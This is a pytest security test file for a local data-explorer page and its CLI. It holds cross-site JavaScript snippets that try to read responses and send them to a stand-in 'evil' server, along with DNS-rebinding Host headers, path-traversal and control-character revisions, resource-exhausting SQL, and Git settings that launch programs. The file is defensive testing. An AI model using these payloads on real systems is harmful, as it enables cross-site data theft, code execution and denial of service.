"""The local page against other pages, other programs and questions that exhaust: nothing read, and it goes on."""

from __future__ import annotations

import http.client
import http.server
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing, suppress
from pathlib import Path
from urllib.parse import quote, urlsplit

import chromium
import pytest
import small_project
from small_project import ENVIRONMENT, command

from rlhf_data.commands import explore
from rlhf_data.errors import RlhfDataError, StorageError, TableError
from rlhf_data.explore import reading

SLOW = "select count(*) from range(100000000) a, range(1000000) b where a.range % 7 = b.range % 11"
ODD = ("\0", "v1\0", "\x1b[2J", "HEAD:params.yaml", "v1..v2", "v1...HEAD", "x" * 5000, "-x", " ", "a b",
       "\ud800", "no\nsuch", "*", "?", "é" * 300, "../../etc", "HEAD~1000000", "v1^{tree}", "--all", "@{-1}",
       "HEAD@{5000}")  # fmt: skip
EXHAUSTING = (
    SLOW,
    "select len(range(3000000000))",
    "select printf('%2000000000d', 1)",
    "select list_transform(range(10000000), lambda x: x::varchar || repeat('y', 100))",
    "select repeat('x', 2000000000)",
    "with recursive t as (select 1 as a union all select a + 1 from t) select count(*) from t",
)
NESTED = (
    "select " + "+".join(["1"] * 1000),
    "select " + "[" * 400 + "]" * 400,
    "select " + "(" * 3000 + "1" + ")" * 3000,
    "select " + "not " * 5000 + "true",
    "select " + "{'a': " * 300 + "1" + "}" * 300,
)


@pytest.fixture(scope="module")
def server(two_versions: Path) -> Iterator[str]:
    """The address that the running command prints."""
    code = "from rlhf_data.commands import main; main()"
    called = [sys.executable, "-c", code, "explore", "--project", str(two_versions)]
    with subprocess.Popen(called, env=ENVIRONMENT, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        yield next(line.strip() for line in process.stdout if "http://" in line)
        process.terminate()


def asked(server: str, path: str, *, seconds: float = 60, headers: Mapping[str, str] | None = None) -> tuple[int, str]:
    to = urlsplit(server)
    with closing(http.client.HTTPConnection(to.hostname or "", to.port, timeout=seconds)) as connection:
        connection.request("GET", to.path + path, headers=dict(headers or {}))
        said = connection.getresponse()
        return said.status, said.read().decode()


def sql(query: str) -> str:
    return f"sql?query={quote(query)}"


@pytest.mark.parametrize("hosts", [["{0}", "{0}"], ["{0}", "evil.example"], ["evil.example", "{0}"], []])
def test_one_host(server: str, hosts: list[str], refused: Callable[..., None]) -> None:
    to = urlsplit(server)
    with socket.create_connection((to.hostname, to.port), timeout=20) as to_server:
        lines = [f"GET {to.path} HTTP/1.1", *(f"Host: {one.format(to.netloc)}" for one in hosts), "Connection: close"]
        to_server.sendall("\r\n".join([*lines, "", ""]).encode())
        with to_server.makefile("rb") as answer:
            said = answer.read()
    assert said.split()[1] in (b"400", b"403")
    refused("page: Host headers")


@pytest.mark.parametrize("revision", ODD)
def test_odd_revisions_are_one_line(
    server: str, two_versions: Path, revision: str, tmp_path: Path, refused: Callable[..., None]
) -> None:
    name = quote(revision, errors="surrogatepass")
    for path in (f"?at={name}", f"?against={name}", f"sql?at={name}&query=select+count(*)+from+rewards"):
        status, said = asked(server, path)
        assert status in (200, 400), path  # what is blank means no revision
        assert "Traceback" not in said
    commands: tuple[tuple[str, ...], ...] = (
("sql", "select 1 from rewards", "--at"), ("diff", "rewards", "v1"), ("verify", "--no-remote", "--at"),
                ("export", "rewards/iter1", "--out", str(tmp_path / "out"), "--at"), ("push", "--at"))  # fmt: skip
    for one in commands:
        arguments = [*one, revision] if one[-1] == "--at" else [*one[:2], "--", *one[2:], revision]
        with pytest.raises(RlhfDataError) as error:
            command(*arguments, cwd=two_versions)
        assert str(error.value).count("\n") <= 2, one
        assert len(str(error.value)) < 700, one
    refused("odd revisions", 3 + len(commands))


@pytest.mark.parametrize("query", NESTED)
def test_deep_nesting_is_one_line_or_an_answer(
    server: str, two_versions: Path, query: str, refused: Callable[..., None]
) -> None:
    status, said = asked(server, sql(query))
    assert status in (200, 400)
    assert "Error: " not in said or "RecursionError" not in said
    with suppress(TableError):
        command("sql", query, cwd=two_versions)
    refused("deep nesting in SQL", 2)


@pytest.mark.parametrize("query", EXHAUSTING)
def test_a_question_that_exhausts_ends(
    two_versions: Path, query: str, refused: Callable[..., None], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reading, "SECONDS", 2)
    start = time.monotonic()
    with pytest.raises(TableError, match=r"\Aquery: [^\n]+\Z"):
        reading.sql(two_versions, None, query, most=10)
    assert time.monotonic() - start < 15
    refused("page: questions that exhaust")


def test_many_slow_questions_and_who_leaves(server: str, refused: Callable[..., None]) -> None:
    """45 at once: the page answers, few are worked on, and those whose askers left make room."""

    def leave(_: int) -> int:
        try:
            return asked(server, sql(SLOW), seconds=3)[0]
        except TimeoutError:
            return 0

    with ThreadPoolExecutor(46) as pool:
        slow = pool.map(leave, range(45))
        time.sleep(1)
        start = time.monotonic()
        assert asked(server, "")[0] == 200
        assert time.monotonic() - start < 5
        found = list(slow)
    assert found.count(400) >= 40  # the others are being answered
    assert found.count(0) in (1, 2, 3)
    time.sleep(1.5)
    assert asked(server, sql("select 41 + 1 as a"))[0] == 200
    refused("page: slow questions at once", 45)


def test_the_secret_is_in_no_list_of_processes(tmp_path: Path) -> None:
    path = explore._handed_over("http://127.0.0.1:1/a-key/", tmp_path)
    assert "a-key" not in path.as_uri()
    assert 'content="0; url=http://127.0.0.1:1/a-key/"' in path.read_text()


WAYS = {
    "navigation": "location = target",
    "refresh": "document.head.innerHTML = `<meta http-equiv=refresh content='0; url=${target}'>`",
    "image": "document.body.append(Object.assign(new Image(), {src: target}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: target}))",
    "fetch": "for (const mode of ['cors', 'no-cors']) fetch(target, {mode, credentials: 'include'})"
    ".then((r) => r.text()).then((t) => t && fetch('/leak?' + t.length)).catch(() => 0)",
    "form": "const f = Object.assign(document.createElement('form'), {action: target, method: 'POST'});"
    "document.body.append(f); f.submit()",
    "open": "const w = open(target); setTimeout(() => {"
    "try { fetch('/leak?' + w.document.body.innerText.length) } catch { } }, 800)",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: target}))",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: target}))",
}


@pytest.fixture(scope="module")
def evil() -> Iterator[tuple[int, list[str]]]:
    """A web server of somebody else, and what its pages told it."""
    leaks: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path.startswith("/leak"):
                leaks.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!DOCTYPE html><title>evil</title><body></body>")

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as serving:
        threading.Thread(target=serving.serve_forever, daemon=True).start()
        yield serving.server_port, leaks
        serving.shutdown()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.example"])
def test_a_page_elsewhere_asks_and_reads_nothing(
    server: str, evil: tuple[int, list[str]], host: str, refused: Callable[..., None]
) -> None:
    """Even one that knows the address: of this site at another port, of another site, and of a name that is rebound."""
    playwright = pytest.importorskip("playwright.sync_api", reason="no playwright: pip install playwright")
    if chromium.PATH is None:
        pytest.skip(chromium.ABSENT)
    port, leaks = evil
    with playwright.sync_playwright() as running:
        browser = running.chromium.launch(executable_path=chromium.PATH, args=[*chromium.FLAGS, chromium.REBOUND])
        for way, script in WAYS.items():
            context = browser.new_context()
            context.new_page().goto(server)  # the person has the page open
            answers: list[tuple[str, int]] = []
            page = context.new_page()
            context.on("response", lambda said, answers=answers: answers.append((said.url, said.status)))
            page.goto(f"http://{host}:{port}/")
            address = server if host != "evil.example" else server.replace("127.0.0.1", host)
            target = address + sql("select 1 as a")
            page.evaluate(f"() => {{ const target = {target!r}; {script} }}")
            page.wait_for_timeout(1000)
            told = {status for url, status in answers if "/sql" in url}
            assert told <= {400, 403}, (way, answers)
            assert way in ("fetch", "prefetch", "image", "script") or told, (way, answers)
            context.close()
        browser.close()
    assert leaks == []
    refused("page: other pages in Chromium", len(WAYS))


def test_a_foreign_navigation_opens_the_first_view_alone(server: str) -> None:
    leading = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    for path, status in (("", 200), ("?part=iter1", 403), ("sql", 403), ("static/explore.js", 403)):
        assert asked(server, path, headers=leading)[0] == status, path


def test_a_stranger_s_git_settings_run_nothing(
    two_versions: Path, tmp_path: Path, refused: Callable[..., None]
) -> None:
    project, ran = small_project.copy(two_versions, tmp_path), tmp_path / "ran"
    program = tmp_path / "program"
    program.write_text(f"#!/bin/sh\necho $0 >> {ran}\nexit 1\n")
    program.chmod(0o755)
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    for name in ("post-checkout", "post-index-change", "reference-transaction", "pre-push"):
        (hooks / name).symlink_to(program)
    signed = small_project.git("cat-file", "commit", "HEAD", cwd=project).replace(
        "\n\n", "\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----\n\n", 1
    )
    (tmp_path / "commit").write_text(signed)
    oid = small_project.git("hash-object", "-t", "commit", "-w", str(tmp_path / "commit"), cwd=project).strip()
    small_project.git("update-ref", "HEAD", oid, cwd=project)
    settings = {
        "log.showSignature": "true", "gpg.program": str(program), "core.fsmonitor": str(program),
        "core.hooksPath": str(hooks), "core.pager": str(program), "diff.external": str(program),
        "core.sshCommand": str(program), "credential.helper": f"!{program}", "core.editor": str(program),
        "core.alternateRefsCommand": str(program), "diff.evil.textconv": str(program),
        "filter.evil.smudge": str(program), "filter.evil.clean": str(program),
    }  # fmt: skip
    for name, value in settings.items():
        small_project.git("config", name, value, cwd=project)
    (project / ".git/info").mkdir(exist_ok=True)
    (project / ".git/info/attributes").write_text("* filter=evil diff=evil\n")
    code = (
        "import sys\nfrom pathlib import Path\nfrom rlhf_data import commands\nfrom rlhf_data.explore import reading\n"
        "print(reading.revisions(Path())) if sys.argv[1] == 'explore' else commands.app()"
    )
    entry = f"from rlhf_data.storage import git\ngit.run_nothing()\n{code}"
    calls = (("explore",), ("sql", "select count(*) from rewards", "--at", "v1"), ("diff", "rewards", "v1", "v2"),
             ("verify", "--at", "v1"), ("export", "rewards/iter1", "--at", "v1", "--out", str(tmp_path / "out")),
             ("doctor",), ("queries",), ("push", "--all"), ("clean",))  # fmt: skip
    for one in calls:
        done = subprocess.run(
            [sys.executable, "-c", entry, *one], cwd=project, env=ENVIRONMENT, capture_output=True, text=True
        )
        assert "Traceback" not in done.stderr, (one, done.stderr[-2000:])
        assert not ran.exists(), (one, ran.read_text())
    subprocess.run(["git", "log", "-1"], cwd=project, env=ENVIRONMENT, capture_output=True)
    assert ran.exists()  # Git itself would have
    refused("settings of Git that run programs", len(settings) * len(calls))


def test_every_command_lets_git_run_nothing() -> None:
    code = "import os, sys\nfrom rlhf_data import commands\nsys.argv = ['rlhf-data', 'queries']\n"
    code += "try:\n    commands.main()\nexcept SystemExit:\n    pass\nprint(os.environ['GIT_CONFIG_COUNT'])"
    done = subprocess.run([sys.executable, "-c", code], env=ENVIRONMENT, capture_output=True, text=True, check=True)
    assert int(done.stdout.split()[-1]) > 10


def test_no_remote_that_is_silent_holds_up_the_page(two_versions: Path, tmp_path: Path) -> None:
    project = small_project.copy(two_versions, tmp_path)
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        address = f"http://127.0.0.1:{silent.getsockname()[1]}/store"
        small_project.dvc("remote", "add", "--default", "silent", address, cwd=project)
        start = time.monotonic()
        reading.version(project, None)
        assert reading.sql(project, None, "select count(*) as n from rewards", most=5).columns == ["n"]
        assert time.monotonic() - start < 15


def test_no_such_revision(two_versions: Path) -> None:
    with pytest.raises(StorageError, match=r"^v9: no such Git revision\n"):
        reading.version(two_versions, "v9")
